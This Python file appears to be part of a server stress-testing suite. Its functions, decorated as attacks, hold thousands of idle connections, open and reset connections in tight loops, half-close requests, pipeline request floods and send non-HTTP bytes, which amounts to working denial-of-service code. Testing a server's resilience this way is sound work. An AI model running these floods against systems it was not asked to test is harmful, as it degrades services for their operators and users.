"""Connections as such."""

import asyncio
import socket
import struct

from attacks import attack
from load import Target, all_of, flood, hold

LINGER_ZERO = struct.pack("ii", 1, 0)


@attack("f")
async def idle_connections(target: Target) -> None:
    """1,100 idle connections from one address"""
    await hold(target, b"", 1_100, interval=3_600)


@attack("f")
async def idle_connections_of_many_addresses(target: Target) -> None:
    """5,000 idle connections from 50 addresses"""
    await hold(target, b"", 5_000, interval=3_600, source=lambda number: target.address(number % 50))


@attack("f")
async def idle_connections_after_a_request(target: Target) -> None:
    """2,000 connections that stay open after one request"""
    await hold(target, target.request("GET", "/server/ping"), 2_000, interval=3_600)


@attack("f")
async def connections_one_after_the_other(target: Target) -> None:
    """connections that are opened and closed as fast as possible"""

    async def one(_: int) -> None:
        while True:
            (await target.connect()).close()

    await all_of(32, one)


@attack("f")
async def connections_that_are_reset(target: Target) -> None:
    """connections that are reset after half a request"""

    async def one(_: int) -> None:
        while True:
            connection = await target.connect()
            await connection.send(b"GET /api/server/ping HT")
            connection.link.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, LINGER_ZERO)
            connection.close()

    await all_of(32, one)


@attack("f")
async def half_closed_connections(target: Target) -> None:
    """1,000 connections that the client has closed for writing"""

    async def one(_: int) -> None:
        connection = await target.connect()
        try:
            await connection.send(b"POST /api/auth/login HTTP/1.1\r\nHost: a\r\nContent-Length: 100\r\n\r\n")
            connection.link.shutdown(socket.SHUT_WR)
            await connection.drain()
            await asyncio.sleep(0.1)
        finally:
            connection.close()

    await all_of(1_000, one)


@attack("f")
async def pipelined_requests(target: Target) -> None:
    """requests of 1,000 at once on a connection"""
    request = target.request("GET", "/server/ping")
    await flood(target, lambda: request, connections=8, batch=1_000)


@attack("f")
async def bytes_that_are_no_request(target: Target) -> None:
    """connections that send no HTTP"""
    await flood(target, lambda: b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" * 32, connections=32, batch=1)
